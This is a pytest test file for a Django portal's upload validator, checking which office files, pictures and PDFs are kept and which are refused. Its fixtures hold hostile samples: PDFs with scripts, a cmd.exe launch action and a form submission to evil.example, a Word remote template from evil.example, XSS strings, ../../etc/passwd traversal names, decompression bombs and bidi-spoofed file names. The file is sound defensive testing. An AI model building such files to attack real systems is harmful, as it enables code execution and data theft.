"""What is kept of the files that people send, and what is refused, with a sentence."""

import hashlib
import io
import zipfile
from contextlib import suppress
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from hypothesis import given, settings as limits, strategies as st
from PIL import Image
from pytest_django import Settings

from onde_portal.workflow.uploads import CheckedFile, UploadRefused, check_upload, shown_name
from tests.workflow import files

OPEN_XML = "application/vnd.openxmlformats-officedocument"


def look(name: str, content: bytes) -> CheckedFile:
    return check_upload(SimpleUploadedFile(name, content))


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(UploadRefused) as refused:
        look(name, content)
    assert len(str(refused.value)) > 20
    return refused.value.code


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("ประกาศ.pdf", files.pdf(), "application/pdf"),
        ("รูป.JPG", files.picture(), "image/jpeg"),
        ("รูป.jpeg", files.picture(), "image/jpeg"),
        ("รูป.png", files.picture("PNG"), "image/png"),
        ("รูป.webp", files.picture("WEBP"), "image/jpeg"),
        ("บันทึก.docx", files.office("docx"), f"{OPEN_XML}.wordprocessingml.document"),
        ("บัญชี.xlsx", files.office("xlsx"), f"{OPEN_XML}.spreadsheetml.sheet"),
        ("รายชื่อ.csv", "ชื่อ,สกุล\nมาลี,บัวงาม\n".encode("cp874"), "text/csv"),
        ("รายชื่อ.csv", "\ufeffชื่อ,สกุล\n".encode(), "text/csv"),
        ("จาก Excel.txt", "ชื่อ\tสกุล\n".encode("utf-16"), "text/plain"),
    ],
)  # fmt: skip
def test_what_offices_send_is_kept(name: str, content: bytes, content_type: str) -> None:
    kept = look(name, content)
    assert kept.content_type == content_type
    assert kept.sha256 == hashlib.sha256(kept.content).hexdigest()
    assert kept.name.rsplit(".", 1)[0] == name.rsplit(".", 1)[0]


def test_papers_are_kept_byte_by_byte() -> None:
    content = files.pdf()
    assert look("a.pdf", content).content == content


def test_a_picture_is_kept_upright_and_without_place_camera_and_comment() -> None:
    sent = files.picture_with_place()
    assert b"SecretPhone" in sent
    assert b"SecretComment" in sent
    kept = look("IMG_0001.jpg", sent)
    assert b"Secret" not in kept.content
    with Image.open(io.BytesIO(kept.content)) as opened:
        assert opened.size == (30, 40)
        assert not opened.getexif()


def test_a_huge_picture_is_kept_smaller() -> None:
    with Image.open(io.BytesIO(look("ภาพ.png", files.picture("PNG", (5000, 100))).content)) as kept:
        assert kept.size == (4000, 80)


def test_a_transparent_palette_picture_survives() -> None:
    target = io.BytesIO()
    Image.new("P", (9, 9)).save(target, "PNG", transparency=0)
    with Image.open(io.BytesIO(look("ตรา.png", target.getvalue()).content)) as kept:
        assert kept.mode == "RGBA"


def test_a_file_after_a_picture_in_one_file_is_cut_off() -> None:
    kept = look("a.jpg", files.picture() + files.office("docx") + b"<script>alert(1)</script>")
    assert b"<script>" not in kept.content
    assert not zipfile.is_zipfile(io.BytesIO(kept.content))


SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


@pytest.mark.parametrize(
    "content",
    [
        files.pdf(OpenAction=SCRIPT),
        files.pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
        files.pdf(
            OpenAction=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")
        ),
        files.pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[]))),
        files.pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.Array([]))),
        files.pdf_with_attachment(),
        files.pdf_with_page_script(),
        files.pdf_with_field_script(),
        files.pdf(OpenAction=SCRIPT).replace(b"/JavaScript", b"/J#61vaScript"),
    ],
    ids=[
        "opens with a script",
        "launches a program",
        "sends a form",
        "named scripts",
        "XFA form",
        "attachment",
        "script of a page",
        "script deep in a form",
        "script under another spelling",
    ],
)
def test_a_pdf_that_does_something_is_refused(content: bytes) -> None:
    assert refusal("ประกาศ.pdf", content) == "pdf_active"


@pytest.mark.parametrize("user", ["", "1234"])
def test_a_locked_pdf_is_refused(user: str) -> None:
    assert refusal("ประกาศ.pdf", files.locked_pdf(user=user)) == "password"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.pdf", files.office("docx"), "not_what_it_says"),
        ("a.pdf", b"%PDF-1.7\n" + b"nothing", "broken"),
        ("a.pdf", files.pdf()[:200], "broken"),
        ("a.jpg", files.picture("PNG"), "not_what_it_says"),
        ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "not_what_it_says"),
        ("a.png", files.picture("PNG")[:60], "broken"),
        ("a.webp", b"RIFF\x00\x00\x00\x00WAVEfmt ", "broken"),
        ("a.png", files.png_bomb(), "picture_too_large"),
        ("a.png", files.png_bomb(7000), "broken"),
        ("a.svg", b"<svg/>", "ending"),
        ("a.html", b"<html></html>", "ending"),
        ("a.pdf.exe", b"MZ", "ending"),
        ("a.docm", files.office("docx"), "ending"),
        ("noending", b"abc", "ending"),
        ("a.heic", b"\x00\x00\x00\x18ftypheic", "iphone"),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old_office"),
        ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
        ("a.txt", b"", "empty"),
        ("a.txt", b"<!DOCTYPE html><script>alert(1)</script>", "not_what_it_says"),
        ("a.csv", b"  <svg onload=alert(1)>", "not_what_it_says"),
        ("a.txt", b"MZ\x90\x00\x03", "not_what_it_says"),
        ("a.csv", b"a,b\n\x07\x1f", "not_what_it_says"),
    ],
)
def test_what_is_not_what_it_says_is_refused(name: str, content: bytes, code: str) -> None:
    assert refusal(name, content) == code


TEMPLATE = (
    b'<Relationship Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/>'
)
MACRO_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    ("ending", "parts", "code"),
    [
        ("docx", {"word/vbaProject.bin": b"x"}, "macros"),
        ("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}, "macros"),
        ("xlsx", {"xl/activeX/activeX1.bin": b"x"}, "macros"),
        ("docx", {"word/embeddings/oleObject1.bin": b"x"}, "macros"),
        ("docx", {"word/_rels/settings.xml.rels": TEMPLATE}, "macros"),
        ("docx", {"[Content_Types].xml": MACRO_TYPE}, "macros"),
        ("docx", {"../../etc/passwd": b"x"}, "broken"),
        ("docx", {"/etc/passwd": b"x"}, "broken"),
        ("docx", {"word/huge.xml": b"0" * 5_000_000}, "bomb"),
        ("xlsx", {f"xl/{number}.xml": b"" for number in range(5001)}, "bomb"),
    ],
)  # fmt: skip
def test_an_office_file_that_hides_something_is_refused(
    ending: str, parts: dict[str, bytes], code: str
) -> None:
    assert refusal(f"a.{ending}", files.office(ending, parts)) == code


def test_a_printers_settings_in_excel_are_no_macro() -> None:
    parts = {"xl/printerSettings/printerSettings1.bin": b"HP LaserJet"}
    assert look("บัญชี.xlsx", files.office("xlsx", parts)).ending == "xlsx"


def test_a_word_file_named_excel_is_refused() -> None:
    assert refusal("a.xlsx", files.office("docx")) == "not_what_it_says"
    assert (
        refusal("a.docx", files.office("docx", without="[Content_Types].xml")) == "not_what_it_says"
    )


def test_a_zip_that_lies_about_its_sizes_is_refused() -> None:
    assert refusal("a.docx", files.lying_zip()) in {"broken", "bomb"}


def test_a_file_over_the_limit_is_refused_with_the_limit(settings: Settings) -> None:
    settings.UPLOAD_MAX_BYTES = 1024**2
    with pytest.raises(UploadRefused, match=r"\b1\b") as refused:
        look("a.txt", b"a" * (1024**2 + 1))
    assert refused.value.code == "too_large"


def test_a_refusal_speaks_the_readers_language() -> None:
    said = set()
    for language in ("th", "en"):
        with translation.override(language), pytest.raises(UploadRefused) as refused:
            look("a.exe", b"MZ")
        said.add(str(refused.value))
    assert len(said) == 2


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("รายงาน ฉบับที่ ๑.pdf", "รายงาน ฉบับที่ ๑.pdf"),
        ("น้ำ 🌊.PDF", "น้ำ 🌊.PDF"),
        ("C:\\Users\\มาลี\\งาน.docx", "งาน.docx"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("ราย\u200bงาน\u202e.pdf", "รายงาน.pdf"),
        ('a"b<c>|d?*.pdf', "a_b_c__d__.pdf"),
        ("แถว\r\nใหม่.pdf", "แถว ใหม่.pdf"),
        (".pdf", "file.pdf"),
        ("..", "file"),
        ("0.0¡.", "0.0"),
        ("", "file"),
    ],
)
def test_a_file_name_is_cleaned_and_kept_for_display(sent: str, shown: str) -> None:
    assert shown_name(sent) == shown


@given(st.text(max_size=400))
@limits(max_examples=300, deadline=None)
def test_any_name_becomes_one_that_can_be_shown_and_stored(sent: str) -> None:
    shown = shown_name(sent)
    assert 0 < len(shown) <= 200
    assert not set(shown) & set('/\\<>:"|?*\n\r\t\x00')
    assert shown_name(shown) == shown


@given(st.binary(max_size=300), st.sampled_from(["pdf", "png", "jpg", "docx", "txt"]))
@limits(max_examples=25, deadline=None)
def test_any_bytes_are_kept_or_refused(content: bytes, ending: str) -> None:
    starts: dict[str, Any] = {
        "pdf": b"%PDF-",
        "png": b"\x89PNG\r\n\x1a\n",
        "jpg": b"\xff\xd8\xff",
        "docx": b"PK\x03\x04",
    }
    with suppress(UploadRefused):
        assert look(f"a.{ending}", starts.get(ending, b"") + content).ending == ending
